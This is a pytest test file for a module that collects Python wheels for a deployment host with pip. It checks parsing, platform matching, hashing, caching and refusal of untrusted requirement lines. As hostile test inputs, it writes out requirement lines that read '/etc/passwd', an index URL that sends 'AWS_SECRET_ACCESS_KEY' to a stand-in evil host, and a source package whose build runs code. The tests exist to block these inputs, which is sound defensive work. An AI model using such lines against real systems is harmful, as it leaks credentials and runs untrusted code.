"""shiftmaster_wheels: requirements as pip reads them, resolved by the real pip from a directory of small wheels."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import types
import zipfile

import offenders
import pytest
import shiftmaster_preflight as preflight
import shiftmaster_wheels as wheels
from support import ROOT


def interpreter(version="3.13.5", machine="x86_64", glibc="2.41"):
    """A host's interpreter, as shiftmaster_preflight describes it."""
    short = ".".join(version.split(".")[:2])
    return {
        "abi": "cp" + short.replace(".", ""),
        "machine": machine,
        "glibc": glibc,
        "markers": {
            "implementation_name": "cpython",
            "implementation_version": version,
            "os_name": "posix",
            "platform_machine": machine,
            "platform_python_implementation": "CPython",
            "platform_release": "6.12",
            "platform_system": "Linux",
            "platform_version": "1",
            "python_full_version": version,
            "python_version": short,
            "sys_platform": "linux",
        },
    }


def wheel(directory, name, version, tag="py3-none-any", requires=()):
    """Write a wheel without content; returns its path."""
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{name}-{version}-{tag}.whl"
    info = f"{name}-{version}.dist-info"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo(f"{info}/METADATA"),
            f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
            + "".join(f"Requires-Dist: {one}\n" for one in requires),
        )
        archive.writestr(zipfile.ZipInfo(f"{info}/WHEEL"), f"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: {tag}\n")
        archive.writestr(zipfile.ZipInfo(f"{info}/RECORD"), "")
    return path


def hashed(path):
    return "--hash=sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()


# An interpreter that has imported pip, which costs more than what pip does here; each line makes it fork for a run.
FORKING = """
import gc, json, os, sys
import pip._internal.commands.download, pip._internal.network.session, pip._internal.resolution.resolvelib.resolver
from pip._internal.cli import main
gc.freeze()
for line in sys.stdin:
    code, arguments, environment, directory, output = json.loads(line)
    child = os.fork()
    if child == 0:
        os.dup2(os.open(os.devnull, os.O_RDONLY), 0)
        os.dup2(os.open(output, os.O_WRONLY | os.O_CREAT), 1)
        os.dup2(1, 2)
        os.chdir(directory)
        os.environ.clear()
        os.environ.update(environment)
        sys.argv = ["-c", *arguments]
        try:
            exec(code, {"__name__": "__main__"})
        except SystemExit as ended:
            sys.stdout.flush()
            os._exit(ended.code)
    print(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]), flush=True)
"""


@pytest.fixture(scope="module")
def forked(tmp_path_factory):
    """Run `python -c` as subprocess.run() does, by a process that has imported pip."""
    output = tmp_path_factory.mktemp("pip") / "output"
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE, "text": True}
    with subprocess.Popen([sys.executable, "-c", FORKING], **pipes) as interpreter:

        def run(command, env, cwd, **_more):
            assert command[:2] == [sys.executable, "-c"]
            output.write_bytes(b"")
            print(json.dumps([command[2], command[3:], env, cwd, str(output)]), file=interpreter.stdin, flush=True)
            return types.SimpleNamespace(returncode=int(interpreter.stdout.readline()), stdout=output.read_bytes())

        yield run
        interpreter.stdin.close()


@pytest.fixture
def collect(tmp_path, monkeypatch, forked):
    """Call the module's own run() with these files as the application's source."""
    monkeypatch.setattr(wheels, "subprocess", types.SimpleNamespace(**{**vars(subprocess), "run": forked}))

    def collect(files, extra=(), host=None, **more):
        archive = tmp_path / "source.tar"
        with tarfile.open(archive, "w") as packed:
            for name, text in files.items():
                entry = tarfile.TarInfo(name)
                entry.size = len(text.encode())
                packed.addfile(entry, io.BytesIO(text.encode()))
        params = {name: option.get("default") for name, option in wheels.ARGUMENTS.items()}
        params.update(source="directory", directory=str(tmp_path / "wheels"), archive=str(archive))
        params.update(interpreter=host or interpreter(), cache_dir=str(tmp_path / "cache"))
        return wheels.run({**params, "extra_requirements": list(extra), **more})

    return collect


def names(result):
    return [one["name"].split("-")[0] for one in result["wheels"]]


@pytest.fixture
def directory(tmp_path):
    directory = tmp_path / "wheels"
    wheel(directory, "alpha", "1.0", requires=["beta>=2", "old; python_version < '3.12'"])
    wheel(directory, "beta", "2.0")
    wheel(directory, "old", "1.0")
    for abi in ("cp311", "cp313"):
        wheel(directory, "native", "1.0", f"{abi}-{abi}-manylinux_2_28_x86_64")
    return directory


# -------------------------------------------------------------------------------------------------------- requirements


def test_requirements_are_read_as_pip_reads_them():
    files = {
        "requirements.txt": "-r more/base.txt\n# why\nalpha==1 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb\n",
        "more/base.txt": "-c ../constraints.txt\nbeta  # why\n--requirement=deep.txt\n",
        "more/deep.txt": "delta[x]>=1 ; python_version < '4'\n",
        "constraints.txt": "beta<3\n",
    }
    assert wheels.flatten(files.__getitem__, "requirements.txt") == (
        ["beta", "delta[x]>=1 ; python_version < '4'", "alpha==1 --hash=sha256:aa --hash=sha256:bb"],
        ["beta<3"],
    )


def test_requirements_that_name_themselves_end():
    with pytest.raises(wheels.WheelsError, match="name themselves"):
        wheels.flatten({"a": "-r b", "b": "-r a"}.__getitem__, "a")


@pytest.mark.parametrize(
    "line", ["-e .", "./vendor/x", "git+https://git.example.jp/x", "x @ https://example.jp/x.whl", "https://e.jp/x.zip"]
)
def test_invalid_packages_are_rejected(collect, directory, line):
    with pytest.raises(wheels.WheelsError, match="no wheel can stand for the requirement"):
        collect({"requirements.txt": f"alpha\n{line}\n"})


def test_a_package_with_extras_or_markers_is_accepted():
    wheels.refuse_what_is_no_package(
        [
            "celery[redis]~=5.7",
            "x>=1,<2; python_version < '3.12'",
            "--pre",
            "a.b-c_d (>=1.0, <2)",
            "x == 1.0.*",
            "y===1+local",
        ]
        + ["z==1.0 --hash=sha256:" + 64 * "a", "psycopg[binary, pool] ~= 3.3 ; sys_platform != 'win32'"]
    )


@pytest.mark.parametrize(
    "line",
    ["evil @ http://127.0.0.1/evil-1.0.tar.gz", "evil @file:///tmp/evil", "wheels/../../x/archives/a.tar",
     "evil.tar.gz", "evil-1.0-py3-none-any.whl", "./evil", "https://127.0.0.1/evil", "git+https://127.0.0.1/evil",
     "a; x @ http://b"],
)  # fmt: skip
@pytest.mark.parametrize("constraint", [False, True])
def test_the_controllers_pip_gets_no_address_and_no_path(collect, directory, line, constraint):
    """pip would run its build backend as the administrator, of a constraint too."""
    files = {"requirements.txt": "evil\n-c constraints.txt\n", "constraints.txt": line + "\n"}
    with pytest.raises(wheels.WheelsError, match="no wheel can stand for"):
        collect(files if constraint else {"requirements.txt": line + "\n"})


def test_a_source_without_the_file_is_reported(collect, directory):
    with pytest.raises(wheels.WheelsError, match=r"no file requirements\.txt"):
        collect({"other.txt": ""})


# ----------------------------------------------------------------------------------------------------------- the host's


@pytest.mark.parametrize("version, brings", [("3.13.5", []), ("3.11.2", ["old"])])
def test_wheels_and_markers_are_those_of_the_host_not_of_the_controller(
    collect, directory, monkeypatch, version, brings
):
    # With a start of pip of its own, as on a controller.
    monkeypatch.setattr(wheels, "subprocess", subprocess)
    found = collect({"requirements.txt": "alpha\nnative\n"}, host=interpreter(version))
    assert names(found) == ["alpha", "beta", "native", *brings]
    tag = "cp" + "".join(version.split(".")[:2])
    assert [one["name"] for one in found["wheels"] if one["name"].startswith("native")] == [
        f"native-1.0-{tag}-{tag}-manylinux_2_28_x86_64.whl"
    ]


@pytest.mark.parametrize("host", [interpreter(glibc="2.17"), interpreter(machine="aarch64")])
def test_a_wheel_for_another_host_does_not_count(collect, directory, host):
    with pytest.raises(wheels.WheelsError, match="of: native"):
        collect({"requirements.txt": "native\n"}, host=host)


def test_the_hosts_interpreter_is_described_by_itself(collect, directory):
    """With shiftmaster_preflight's facts of this machine pip finds the same as without them."""
    report = preflight.Report()
    preflight.check_interpreter(report, sys.executable)
    found = report.facts["interpreter"]
    native = wheel(directory, "mine", "1.0", f"{found['abi']}-{found['abi']}-linux_{found['machine']}")
    own = subprocess.run(
        [sys.executable, "-m", "pip", "download", "-q", "--no-index", "-f", directory, "-d", directory / "own", "mine"],
        check=False, capture_output=True,
    )  # fmt: skip
    assert own.returncode == 0, own.stderr
    assert names(collect({"requirements.txt": "mine\n"}, host=found)) == ["mine"], native
    from packaging import markers  # noqa: PLC0415

    environment = {key: value for key, value in markers.default_environment().items() if key in found["markers"]}
    assert environment == found["markers"]


def test_an_interpreter_that_is_not_there_is_a_problem():
    report = preflight.Report()
    preflight.check_interpreter(report, "/usr/bin/no-such-python")
    assert "no-such-python" in report.result()["problems"][0]


# ---------------------------------------------------------------------------------------------------------- the
# directory


def test_only_what_the_host_needs_is_collected(collect, directory):
    wheel(directory, "needless", "1.0")
    wheel(directory, "beta", "1.0")
    found = collect({"requirements.txt": "alpha==1.0\n"})
    assert [one["name"] for one in found["wheels"]] == ["alpha-1.0-py3-none-any.whl", "beta-2.0-py3-none-any.whl"]
    for one in found["wheels"]:
        with open(os.path.join(found["directory"], one["name"]), "rb") as stream:
            assert hashlib.sha256(stream.read()).hexdigest() == one["sha256"]


def test_all_that_is_missing_is_named_at_once(collect, directory):
    with pytest.raises(wheels.WheelsError) as error:
        collect({"requirements.txt": "alpha\ngone==1.0\nbeta\nGone.Too>=2\n"})
    text = str(error.value)
    assert "gone==1.0" in text and "Gone.Too>=2" in text and str(directory) in text and "Python 3.13.5" in text
    assert "alpha" not in text


def test_missing_dependencies_of_a_package_are_named_too(collect, directory):
    wheel(directory, "outer", "1.0", requires=["inner>=3"])
    with pytest.raises(wheels.WheelsError, match="of: inner>=3"):
        collect({"requirements.txt": "outer\n"})


@pytest.mark.parametrize("given", [False, True])
def test_extra_requirements_are_collected_in_the_same_way(collect, directory, given):
    """Packages of the application's own requirements are kept, as on the host."""
    wheel(directory, "gunicorn", "27.0", requires=["beta"])
    wheel(directory, "beta", "9.0")
    found = collect({"requirements.txt": "beta==2.0\n" if given else "alpha\n"}, extra=["gunicorn==27.0"])
    assert "gunicorn-27.0-py3-none-any.whl" in [one["name"] for one in found["wheels"]]
    assert [one["name"].split("-")[1] for one in found["wheels"] if one["name"].startswith("beta")] == [
        "2.0" if given else "9.0"
    ]


def test_an_extra_requirement_may_require_a_newer_package(collect, directory):
    wheel(directory, "beta", "9.0")
    assert names(collect({"requirements.txt": "beta==2.0\n"}, extra=["beta>=9"])) == ["beta", "beta"]


def test_hashes_are_honoured(collect, directory):
    good = "beta==2.0 " + hashed(directory / "beta-2.0-py3-none-any.whl")
    assert names(collect({"requirements.txt": good})) == ["beta"]
    with (directory / "beta-2.0-py3-none-any.whl").open("ab") as stream:
        stream.write(b"\0")
    with pytest.raises(wheels.WheelsError, match="(?s)beta.*Expected sha256"):
        collect({"requirements.txt": good})


@pytest.mark.parametrize("where", ["environment", "configuration"])
def test_the_machines_own_configuration_adds_no_source(collect, directory, tmp_path, monkeypatch, where):
    wheel(tmp_path / "elsewhere", "stray", "1.0")
    if where == "configuration":
        (tmp_path / "pip").mkdir()
        (tmp_path / "pip/pip.conf").write_text(f"[global]\nfind-links = {tmp_path / 'elsewhere'}\n")
        monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    else:
        monkeypatch.setenv("PIP_FIND_LINKS", str(tmp_path / "elsewhere"))
    with pytest.raises(wheels.WheelsError, match="of: stray"):
        collect({"requirements.txt": "stray\n"})


@pytest.mark.parametrize("state", ["absent", "empty", "unnamed"])
def test_a_directory_without_wheels_is_reported(collect, tmp_path, state):
    if state == "empty":
        (tmp_path / "wheels").mkdir()
    with pytest.raises(wheels.WheelsError, match="shiftmaster_wheels_dir|cannot be read|holds no wheels"):
        collect({"requirements.txt": "x\n"}, **({"directory": None} if state == "unnamed" else {}))


# ------------------------------------------------------------------------------------------------------- the controller


def test_code_of_a_package_never_runs_on_the_controller(collect, tmp_path, monkeypatch):
    """A directory of this machine's own configuration replaces the index."""
    index, ran = tmp_path / "index", tmp_path / "ran"
    wheel(index, "beta", "2.0")
    known = hashed(sdist(index, "pure", "1.0", code=f"open({str(ran)!r}, 'w').close()"))
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    given = {"source": "controller", "directory": None, "environment": {"PIP_FIND_LINKS": str(index)}}

    def check(line):
        with pytest.raises(wheels.WheelsError, match="of: pure|not allowed on the controller|no wheel can stand for"):
            collect({"requirements.txt": line.replace("{hash}", known) + "\n"}, **given)
        assert not ran.exists()

    offenders.check_each(
        [
            "pure==1.0", "pure==1.0\n--pre --no-binary :all:", "pure==1.0\n--only-binary :none:",
            "pure --no-binary=pure", "pure ; python_version > '3' --no-binary pure", "pure==1.0 {hash}",
            "pure==1.0 {hash} --no-binary=:all:", "pure==1.0 {hash} '--no-binary' :all:",
            "beta\n'--no-binary' :all:\npure",
        ],
        check,
    )  # fmt: skip
    assert names(collect({"requirements.txt": "beta\n"}, **given)) == ["beta"]


def test_the_requirements_of_the_example_are_allowed():
    """With hashes after the quotes of a marker, as tools write them."""
    text = (ROOT / "examples/shiftmaster/versions/2.1.0/requirements.txt").read_text()
    lines = wheels.logical_lines(text)
    assert any("; python_full_version < '3.11.3' --hash" in line for line in lines)
    wheels.refuse_what_is_no_package(lines)
    wheels.refuse_hostile_options(lines, {})


def test_requirements_that_fill_the_memory_are_refused(collect, directory):
    with pytest.raises(wheels.WheelsError, match="larger than"):
        collect({"requirements.txt": "#" * (wheels.REQUIREMENTS_BYTES + 1)})


def sdist(directory, name, version, code=""):
    """Write a source distribution that builds itself, without any other package; returns its path."""
    backend = (
        f"{code}\nimport zipfile\n"
        "def build_wheel(directory, config_settings=None, metadata_directory=None):\n"
        f"    file, info = '{name}-{version}-py3-none-any.whl', '{name}-{version}.dist-info'\n"
        "    with zipfile.ZipFile(directory + '/' + file, 'w') as archive:\n"
        f"        metadata = 'Metadata-Version: 2.1\\nName: {name}\\nVersion: {version}\\n'\n"
        "        archive.writestr(info + '/METADATA', metadata)\n"
        "        tags = 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'\n"
        "        archive.writestr(info + '/WHEEL', tags)\n"
        "        archive.writestr(info + '/RECORD', '')\n"
        "    return file\n"
    )
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n',
        "own.py": backend,
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
    }
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{name}-{version}.tar.gz"
    with tarfile.open(path, "w:gz") as packed:
        for file, text in files.items():
            entry = tarfile.TarInfo(f"{name}-{version}/{file}")
            entry.size = len(text)
            packed.addfile(entry, io.BytesIO(text.encode()))
    return path


def test_an_index_that_does_not_respond_is_reported_as_that(collect):
    with pytest.raises(wheels.WheelsError, match="cannot reach its index"):
        collect(
            {"requirements.txt": "alpha\n"}, source="controller",
            environment={"PIP_INDEX_URL": "http://127.0.0.1:9/simple", "PIP_CONFIG_FILE": "/dev/null"},
        )  # fmt: skip


def test_a_password_of_the_index_is_kept_hidden():
    found = wheels.secrets({"PIP_INDEX_URL": "https://me:p%40ss@pypi.example.jp/simple", "PIP_RETRIES": "1"})
    assert found == {"me:p%40ss", "p%40ss", "p@ss"}


# --------------------------------------------------------------------------------------------------------------- cache


def test_the_same_requirements_are_not_downloaded_again(collect, directory):
    first = collect({"requirements.txt": "alpha\n", "VERSION": "1"})
    newer_kernel = interpreter()
    newer_kernel["markers"]["platform_release"] = "6.13"
    second = collect({"requirements.txt": "alpha\n# a comment\n", "VERSION": "2"}, host=newer_kernel)
    assert (first["collected"], second["collected"]) == (True, False)
    assert {**second, "collected": True} == first


def test_other_requirements_are_collected_again(collect, directory):
    first = collect({"requirements.txt": "alpha\n"})

    def check(change):
        if change == "directory":
            wheel(directory, "beta", "3.0")
        again = collect(
            {"requirements.txt": "alpha\nnative\n" if change == "requirements" else "alpha\n"},
            extra=["native"] if change == "extra" else [],
            host=interpreter("3.11.2") if change == "host" else None,
        )
        assert again["collected"] and again["wheels"] != first["wheels"]

    offenders.check_each(["requirements", "extra", "host", "directory"], check)


def test_a_damaged_collection_is_made_again(collect, directory):
    first = collect({"requirements.txt": "alpha\n"})
    with open(os.path.join(first["directory"], first["wheels"][0]["name"]), "ab") as stream:
        stream.write(b"\0")
    assert collect({"requirements.txt": "alpha\n"}) == first


def test_a_failed_collection_leaves_nothing(collect, directory, tmp_path):
    with pytest.raises(wheels.WheelsError):
        collect({"requirements.txt": "gone\n"})
    assert os.listdir(tmp_path / "cache/wheels") == ["lock"]


# ------------------------------------------------------------------------------------------------ what is not trusted


@pytest.mark.parametrize(
    "line",
    [
        "-r /etc/passwd --pre", "--requir=/etc/passwd", '"-r" /etc/passwd', "-f /etc", "--find-links=/root/private",
        "--config-settings x=y", "--index-url https://evil.example/${AWS_SECRET_ACCESS_KEY}/simple",
        "alpha @ ${HOME}/x",
    ],
)  # fmt: skip
def test_requirements_read_no_file_and_no_variable_of_the_controller(collect, directory, monkeypatch, line):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret-of-the-controller")
    ran = []
    monkeypatch.setattr(wheels.subprocess, "run", lambda *arguments, **_more: ran.append(arguments))
    with pytest.raises(wheels.WheelsError) as caught:
        collect({"requirements.txt": f"alpha\n{line}\n"})
    assert not ran and "root:" not in str(caught.value) and "secret-of" not in str(caught.value)


def test_an_environment_variable_of_pip_may_be_used():
    wheels.refuse_hostile_options(
        ["--index-url https://${INDEX_USER}@pypi.example/simple", "a==1"], {"INDEX_USER": "x"}
    )


@pytest.mark.parametrize(
    "wrong",
    [{"machine": "../../x"}, {"glibc": "2.9999"}, {"abi": "cp313 --index-url"}, {"version": "3.13.5 --pre"}],
)
def test_a_host_cannot_describe_what_is_no_interpreter(collect, directory, monkeypatch, wrong):
    monkeypatch.setattr(wheels.subprocess, "run", lambda *_arguments, **_more: pytest.fail("pip was started"))
    host = interpreter(wrong.get("version", "3.13.5"))
    host.update({name: value for name, value in wrong.items() if name != "version"})
    with pytest.raises(wheels.WheelsError, match="describes its interpreter"):
        collect({"requirements.txt": "alpha\n"}, host=host)


def test_pip_requires_hashes_where_the_requirements_have_them(collect, directory, monkeypatch):
    requested, run = [], wheels.Pip.run

    def note(self, program, arguments, **more):
        requested.append("--require-hashes" in arguments)
        return run(self, program, arguments, **more)

    monkeypatch.setattr(wheels.Pip, "run", note)
    file = next(path for path in directory.iterdir() if path.name.startswith("alpha-"))
    with contextlib.suppress(wheels.WheelsError):
        collect(
            {"requirements.txt": f"{file.name.split('-')[0]}=={file.name.split('-')[1]} --hash=sha256:{hashed(file)}\n"}
        )
    collect({"requirements.txt": "alpha\n"})
    assert requested[0] is True and requested[-1] is False


def packed(path, members):
    """A source: {name: text, or (target,) of a link}."""
    with tarfile.open(path, "w") as archive:
        for name, content in members.items():
            member = tarfile.TarInfo(name)
            if isinstance(content, tuple):
                member.type, member.linkname = tarfile.SYMTYPE, content[0]
                archive.addfile(member)
            else:
                member.size = len(content)
                archive.addfile(member, io.BytesIO(content.encode()))
    return str(path)


def test_requirements_that_name_each_other_twice_have_an_end(tmp_path):
    """A release with 25 such files would keep the controller at work with 33 million lines."""
    members = {f"r{number}.txt": f"-r r{number + 1}.txt\n" * 2 for number in range(25)}
    with pytest.raises(wheels.WheelsError, match="more than"):
        wheels.of_archive(packed(tmp_path / "a.tar", {**members, "r25.txt": "django\n"}), "r0.txt")


def test_links_among_the_requirements_have_an_end(tmp_path):
    with pytest.raises(wheels.WheelsError, match="no file"):
        wheels.of_archive(packed(tmp_path / "a.tar", {"a": ("b",), "b": ("a",)}), "a")
